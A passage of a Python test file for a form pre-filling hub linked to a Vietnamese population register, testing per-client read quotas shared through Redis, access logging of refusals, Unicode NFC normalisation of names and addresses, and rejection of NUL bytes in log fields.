        "requested_by": {"officer": "cb-0042", "agency": AGENCY},
    }
    return hub.http.post("/v1/prefill", json=body, headers=headers)


def quota_clients(creds: Creds, name: str, per_minute: int) -> list[ClientSystem]:
    """The test clients, the first renamed `name` with a read quota of `per_minute` (the others keep the default)."""
    first, *others = client_systems(creds)
    return [first.model_copy(update={"name": name, "prefill_per_minute": per_minute}), *others]


def test_a_client_past_its_read_quota_is_refused_429_logged_and_kept_from_the_register(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, creds: Creds
) -> None:
    """A leaked key or a runaway integration cannot pull the population database out through hub: past its
    pre-fills of the minute a client gets 429 with Retry-After, the register is not asked, the refusal is in the
    access log; other clients read on."""
    hub = hub_factory(
        population_url=f"{population_server.url}/ws/congdan", clients=quota_clients(creds, "onestop-hcm", 3)
    )
    them = people.get("/_sandbox/people", params={"limit": 5}).json()["items"]
    assert [ask(hub, p["SoDinhDanh"]).status_code for p in them[:3]] == [200, 200, 200]
    asked = people.get("/_sandbox/received").json()["count"]
    r = ask(hub, them[3]["SoDinhDanh"])
    assert r.status_code == 429 and r.headers["content-type"] == "application/problem+json"
    assert r.json()["code"] == "rate_limited" and 15 <= int(r.headers["Retry-After"]) <= 20  # 1 read per 20 s
    assert r.json()["retry_after"] == int(r.headers["Retry-After"])
    assert people.get("/_sandbox/received").json()["count"] == asked  # the register was not asked
    refused = [e for e in log_entries(hub) if e.outcome == "refused"]
    assert len(refused) == 1 and "3 pre-fills of the minute" in (refused[0].reason or "")
    other = hub.http.post(
        "/v1/prefill",
        headers={"X-API-Key": creds.other_key},
        json={
            "procedure": "1.004873",
            "subject_id": them[4]["SoDinhDanh"],
            "purpose": "marriage_registration",
            "requested_by": {"officer": "cb-7", "agency": OTHER_AGENCY},
        },
    )
    assert other.status_code == 200, other.text


@pytest.mark.parametrize("backend", ["postgresql"])  # distributed mode: PostgreSQL and Redis
def test_the_read_quota_is_shared_by_every_hub_process_through_redis(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, creds: Creds
) -> None:
    """Distributed mode: two hub processes (API instances) on the same broker draw from one bucket per client; and
    when Redis does not answer, reads go on (a broker outage does not stop citizens' forms)."""
    import secrets as secrets_

    name = f"onestop-q{secrets_.token_hex(4)}"  # a bucket of its own in the shared Redis
    common = {
        "population_url": f"{population_server.url}/ws/congdan",
        "clients": quota_clients(creds, name, 3),
        "broker_url": "redis://127.0.0.1:6379/0",
        "start_worker": False,
    }
    one, two = hub_factory(**common), hub_factory(**common)
    them = people.get("/_sandbox/people", params={"limit": 4}).json()["items"]
    answers = [ask(h, p["SoDinhDanh"]) for h, p in zip((one, two, one, two), them, strict=True)]
    assert [r.status_code for r in answers] == [200, 200, 200, 429], [r.text[:300] for r in answers]
    down = hub_factory(**{**common, "broker_url": "redis://127.0.0.1:1/0"})  # nothing listens there
    assert ask(down, them[0]["SoDinhDanh"]).status_code == 200


def test_a_decomposed_name_is_asked_for_precomposed() -> None:
    """The name matched against the register goes as TCVN 6909 writes it (NFC), however the portal typed it."""
    import unicodedata

    from hub.services.prefill import PrefillIn

    asked = PrefillIn.model_validate(
        {
            "procedure": KHAI_SINH,
            "subject_id": "079195001234",
            "purpose": PURPOSE,
            "requested_by": {"officer": unicodedata.normalize("NFD", "Lê Văn Tâm"), "agency": AGENCY},
            "subject_name": unicodedata.normalize("NFD", "Trần Thị Ánh"),
        }
    )
    assert asked.subject_name == "Trần Thị Ánh" and asked.requested_by.officer == "Lê Văn Tâm"
    # and the officer's name, written into the access log, is refused with a NUL in it (PostgreSQL cannot store it)
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        PrefillIn.model_validate(
            {
                "procedure": KHAI_SINH,
                "subject_id": "079195001234",
                "purpose": PURPOSE,
                "requested_by": {"officer": "cb\x00-1", "agency": AGENCY},
            }
        )


def test_register_text_is_handed_on_precomposed(
    hub: Hub, people: httpx.Client, population_server: ServerThread
) -> None:
    """A register whose records hold decomposed text (combining marks): the form gets each value in NFC, as the
    portal and every other system are written (TCVN 6909:2001), not bytes that merely look the same."""
    import copy
    import unicodedata

    person = married(people, "2")
    records = population_server.server.config.app.state.peer.population.records
    saved = copy.deepcopy(records[person["SoDinhDanh"]])
    record = records[person["SoDinhDanh"]]
    record["HoVaTen"]["Ten"] = unicodedata.normalize("NFD", "Ánh")
    record["NoiOHienTai"]["ChiTiet"] = unicodedata.normalize("NFD", "12 Lê Lợi, Phường Bến Thành")
    try:
        r = ask(hub, person["SoDinhDanh"])
        assert r.status_code == 200, r.text
        got = fields(r.json())
        assert got["nguoi_yeu_cau.ho_ten"]["value"].endswith(" Ánh")
        assert got["nguoi_yeu_cau.noi_cu_tru"]["value"] == "12 Lê Lợi, Phường Bến Thành"
    finally:
        records[person["SoDinhDanh"]] = saved
